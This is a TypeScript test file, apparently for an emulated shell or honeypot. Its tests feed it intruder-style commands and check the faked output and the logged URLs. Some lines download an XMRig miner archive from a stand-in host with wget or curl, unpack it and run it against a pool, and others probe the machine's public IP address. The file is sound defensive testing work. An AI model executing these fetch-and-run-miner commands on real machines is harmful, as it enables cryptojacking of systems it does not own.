import { describe, expect, it } from 'vitest';
import { runShell } from '../../test/support/run-shell.ts';

describe('a downloaded archive', () => {
  it('is unpacked, and its program runs and says nothing', () => {
    for (const fetch of ['wget -q', 'curl -sO'])
      for (const system of ['linux-gnu', 'linux-busybox'] as const) {
        const name = 'xmrig-6.21.0-linux-static-x64.tar.gz';
        const { output, status, urls, fault } = runShell(
          system,
          `cd /tmp; ${fetch} http://203.0.113.9/${name} && tar xzf ${name} && cd xmrig-6.21.0 && ls && ./xmrig -o pool`,
        );
        expect({ output, status, fault }).toEqual({ output: 'xmrig\n', status: 0, fault: null });
        expect(urls).toContain(`http://203.0.113.9/${name}`);
      }
    const short = runShell('linux-gnu', 'cd /tmp; wget -qO- http://203.0.113.9/kit.tgz | tar tz');
    expect(short.output).toBe('kit/\nkit/kit\n');
  });
});

it('tells a visitor the address that he has reached, where a service would', () => {
  const told = runShell(
    'linux-gnu',
    'curl -s ifconfig.me; echo; curl -s https://ipinfo.io/ip; echo; wget -qO- icanhazip.com',
  );
  const [first, second, third] = told.output.split('\n');
  expect(first).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
  expect([second, third]).toEqual([first, first]);
});
